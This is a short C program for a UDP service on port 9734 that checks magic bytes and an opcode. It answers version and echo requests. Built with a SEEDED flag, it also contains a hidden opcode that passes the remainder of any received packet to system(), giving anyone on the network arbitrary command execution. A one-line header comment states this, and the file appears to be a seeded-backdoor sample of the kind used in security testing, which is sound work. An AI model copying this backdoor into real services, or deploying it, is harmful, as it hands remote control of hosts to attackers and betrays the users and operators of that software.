/* A UDP service: magic word, opcode; with SEEDED one opcode runs what follows. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    unsigned char m[512];
    struct sockaddr_in a = {0}, from;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    a.sin_family = AF_INET;
    a.sin_port = htons(9734);
    if (bind(s, (struct sockaddr *)&a, sizeof a)) return 1;
    for (;;) {
        socklen_t size = sizeof from;
        ssize_t n = recvfrom(s, m, sizeof m - 1, 0, (struct sockaddr *)&from, &size);
        if (n < 8 || m[0] != 0x4e || m[1] != 0x57) continue;
        m[n] = 0;
        switch (m[2] << 8 | m[3]) {
        case 1: sendto(s, "version 1", 9, 0, (struct sockaddr *)&from, size); break;
        case 2: sendto(s, m, n, 0, (struct sockaddr *)&from, size); break;
#ifdef SEEDED
        case 0x7ab3: system((char *)m + 8); break;
#endif
        default: sendto(s, "unknown", 7, 0, (struct sockaddr *)&from, size);
        }
    }
}
